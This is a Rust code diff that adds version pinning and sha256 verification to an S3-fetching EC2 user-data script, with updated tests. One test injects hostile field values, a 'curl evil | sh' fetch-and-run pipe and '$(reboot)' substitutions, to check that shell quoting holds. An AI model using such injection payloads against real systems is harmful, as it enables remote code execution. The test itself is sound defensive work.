@@ -1,8 +1,12 @@
 //! Baseline/canary user data: Docker and the Compose plugin, the node exporter, then the
 //! deployment's image tarball and compose file from S3 (instance role credentials; nothing is
-//! written into the script), `docker load`, and `docker compose up -d` with `AVIARY_IMAGE`
+//! written into the script) — exactly the object versions admission checked, each verified
+//! against the sha256 admission recorded before anything uses it, so an object replaced after
+//! admission never runs — `docker load`, and `docker compose up -d` with `AVIARY_IMAGE`
 //! (the loaded image's reference), `AVIARY_ROLE`, `AVIARY_DEPLOYMENT_ID` and `AVIARY_APP_PORT`.
 //! Any failure stops the script (`set -euo pipefail`) with the failing line in the log.
+
+use aviary_core::model::PinnedArtifact;
 
 use super::install::{functions, install_docker, install_node_exporter, sh_quote};
 
@@ -16,11 +20,17 @@ pub struct AppInstanceContext {
     /// `baseline` or `canary`.
     pub role: String,
     pub region: String,
-    /// The artifact bucket and the full object keys.
+    /// The artifact bucket, and the two objects as admission pinned them.
     pub bucket: String,
-    pub tarball_key: String,
-    pub compose_key: String,
+    pub tarball: PinnedArtifact,
+    pub compose: PinnedArtifact,
     pub app_port: u16,
+}
+
+/// A stand-in pin for previews (`aviary render`, the monitoring checks): admission records
+/// the real version and digest, which do not exist before an upload.
+pub fn preview_pin(key: &str) -> PinnedArtifact {
+    PinnedArtifact { key: key.into(), version_id: Some("VERSION-PINNED-AT-ADMISSION".into()), sha256: "SHA256-RECORDED-AT-ADMISSION".into(), bytes: 0 }
 }
 
 /// The user data script. Every context value is shell-quoted, so no value can inject commands.
@@ -38,18 +48,38 @@ ROLE={q_role}
 REGION={q_region}
 BUCKET={q_bucket}
 TARBALL_KEY={q_tarball}
+TARBALL_VERSION={q_tarball_version}
+TARBALL_SHA256={q_tarball_sha}
 COMPOSE_KEY={q_compose}
+COMPOSE_VERSION={q_compose_version}
+COMPOSE_SHA256={q_compose_sha}
 APP_PORT={port}
 APP_DIR={APP_DIR}
+
+# fetch_pinned KEY VERSION SHA256 DEST: the object version admission checked (by version id
+# when the bucket is versioned), kept only if its bytes have the sha256 admission recorded.
+fetch_pinned() {{
+  local key=$1 version=$2 sha=$3 dest=$4
+  if [[ -n $version ]]; then
+    retry 5 aws s3api get-object --region "$REGION" --bucket "$BUCKET" --key "$key" --version-id "$version" "$dest" >/dev/null
+  else
+    retry 5 aws s3 cp --only-show-errors --region "$REGION" "s3://$BUCKET/$key" "$dest"
+  fi
+  if ! printf '%s  %s\n' "$sha" "$dest" | sha256sum --check --status; then
+    log "s3://$BUCKET/$key ${{version:+(version $version) }}is not the bytes admission checked (sha256 $sha): not running it"
+    rm -f "$dest"
+    exit 1
+  fi
+}}
 
 {install_docker}{install_node_exporter}
 install_docker
 install_node_exporter
 
 install -d -m 0750 "$APP_DIR"
-log "downloading s3://$BUCKET/$TARBALL_KEY and s3://$BUCKET/$COMPOSE_KEY"
-retry 5 aws s3 cp --only-show-errors --region "$REGION" "s3://$BUCKET/$TARBALL_KEY" "$APP_DIR/image.tar"
-retry 5 aws s3 cp --only-show-errors --region "$REGION" "s3://$BUCKET/$COMPOSE_KEY" "$APP_DIR/compose.yml"
+log "downloading s3://$BUCKET/$TARBALL_KEY and s3://$BUCKET/$COMPOSE_KEY as admitted"
+fetch_pinned "$TARBALL_KEY" "$TARBALL_VERSION" "$TARBALL_SHA256" "$APP_DIR/image.tar"
+fetch_pinned "$COMPOSE_KEY" "$COMPOSE_VERSION" "$COMPOSE_SHA256" "$APP_DIR/compose.yml"
 
 load_output=$(docker load -i "$APP_DIR/image.tar")
 printf '%s\n' "$load_output"
@@ -79,8 +109,12 @@ log "started $AVIARY_IMAGE as $ROLE on port $APP_PORT"
         q_role = sh_quote(&ctx.role),
         q_region = sh_quote(&ctx.region),
         q_bucket = sh_quote(&ctx.bucket),
-        q_tarball = sh_quote(&ctx.tarball_key),
-        q_compose = sh_quote(&ctx.compose_key),
+        q_tarball = sh_quote(&ctx.tarball.key),
+        q_tarball_version = sh_quote(ctx.tarball.version_id.as_deref().unwrap_or("")),
+        q_tarball_sha = sh_quote(&ctx.tarball.sha256),
+        q_compose = sh_quote(&ctx.compose.key),
+        q_compose_version = sh_quote(ctx.compose.version_id.as_deref().unwrap_or("")),
+        q_compose_sha = sh_quote(&ctx.compose.sha256),
         port = ctx.app_port,
         install_docker = install_docker(),
         install_node_exporter = install_node_exporter(),
@@ -97,14 +131,18 @@ pub(crate) mod tests {
     use super::*;
     use crate::USER_DATA_LIMIT_BYTES;
 
+    fn pinned(key: &str, version: &str, digit: char) -> PinnedArtifact {
+        PinnedArtifact { key: key.into(), version_id: Some(version.into()), sha256: digit.to_string().repeat(64), bytes: 1024 }
+    }
+
     pub fn ctx() -> AppInstanceContext {
         AppInstanceContext {
             deployment_id: "web-0123456789".into(),
             role: "canary".into(),
             region: "eu-west-1".into(),
             bucket: "aviary-artifacts-123456789012".into(),
-            tarball_key: "canaries/web/canary.tar".into(),
-            compose_key: "canaries/web/compose.yml".into(),
+            tarball: pinned("canaries/web/canary.tar", "3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY", 'a'),
+            compose: pinned("canaries/web/compose.yml", "Wq.3mVh4hK0vW5N2rSxJb0XyJ7m1Kq9Z", 'c'),
             app_port: 8080,
         }
     }
@@ -117,14 +155,18 @@ pub(crate) mod tests {
         assert!(s.contains("BUCKET='aviary-artifacts-123456789012'"));
         assert!(s.contains("TARBALL_KEY='canaries/web/canary.tar'"));
         assert!(s.contains("ROLE='canary'"));
-        assert!(s.contains("aws s3 cp --only-show-errors --region \"$REGION\" \"s3://$BUCKET/$TARBALL_KEY\""));
+        assert!(s.contains("TARBALL_VERSION='3HL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY'"));
+        assert!(s.contains(&format!("TARBALL_SHA256='{}'", "a".repeat(64))));
+        assert!(s.contains("--version-id \"$version\""));
+        assert!(s.contains("sha256sum --check"));
+        assert!(s.contains("fetch_pinned \"$TARBALL_KEY\" \"$TARBALL_VERSION\" \"$TARBALL_SHA256\" \"$APP_DIR/image.tar\""));
         assert!(s.contains("docker load -i"));
         assert!(s.contains("Loaded image: ") && s.contains("Loaded image ID: "));
         for var in ["AVIARY_IMAGE", "AVIARY_ROLE", "AVIARY_DEPLOYMENT_ID", "AVIARY_APP_PORT"] {
             assert!(s.contains(&format!("export {var}=")) || s.contains(&format!(" {var}=")), "{var}");
         }
         assert!(s.contains("-f \"$APP_DIR/compose.yml\" up -d"));
-        let order = ["install_docker\n", "install_node_exporter\n", "aws s3 cp", "docker load", "up -d"];
+        let order = ["install_docker\n", "install_node_exporter\n", "fetch_pinned \"$TARBALL_KEY\"", "fetch_pinned \"$COMPOSE_KEY\"", "docker load", "up -d"];
         let pos: Vec<usize> = order.iter().map(|p| s.rfind(p).unwrap()).collect();
         assert!(pos.windows(2).all(|w| w[0] < w[1]), "{pos:?}");
     }
@@ -134,8 +176,9 @@ pub(crate) mod tests {
         let mut c = ctx();
         c.deployment_id = format!("{}-0123456789", "a".repeat(32));
         c.bucket = "b".repeat(63);
-        c.tarball_key = format!("canaries/{}/{}", "a".repeat(32), "t".repeat(200));
-        c.compose_key = format!("canaries/{}/{}", "a".repeat(32), "c".repeat(200));
+        c.tarball.key = format!("canaries/{}/{}", "a".repeat(32), "t".repeat(200));
+        c.compose.key = format!("canaries/{}/{}", "a".repeat(32), "c".repeat(200));
+        c.tarball.version_id = Some("v".repeat(1024));
         let s = render_app_user_data(&c);
         assert!(s.len() < USER_DATA_LIMIT_BYTES / 2, "{} bytes", s.len());
     }
@@ -143,11 +186,24 @@ pub(crate) mod tests {
     #[test]
     fn hostile_values_stay_quoted() {
         let mut c = ctx();
-        c.compose_key = "x'; curl evil | sh; '".into();
+        c.compose.key = "x'; curl evil | sh; '".into();
+        c.tarball.version_id = Some("$(reboot)".into());
         c.role = "canary\nreboot".into();
         let s = render_app_user_data(&c);
         assert!(s.contains(r"COMPOSE_KEY='x'\''; curl evil | sh; '\'''"));
         assert!(!s.lines().any(|l| l == "reboot"), "a newline in a value must not start a command line");
+        assert!(s.contains("TARBALL_VERSION='$(reboot)'"));
+    }
+
+    #[test]
+    fn an_unversioned_object_is_still_checked_against_its_digest() {
+        let mut c = ctx();
+        c.tarball.version_id = None;
+        let s = render_app_user_data(&c);
+        assert!(s.contains("TARBALL_VERSION=''"));
+        // The digest check follows either download path.
+        let check = s.find("sha256sum --check").unwrap();
+        assert!(s.find("aws s3 cp").unwrap() < check && s.find("s3api get-object").unwrap() < check);
     }
 
     #[test]
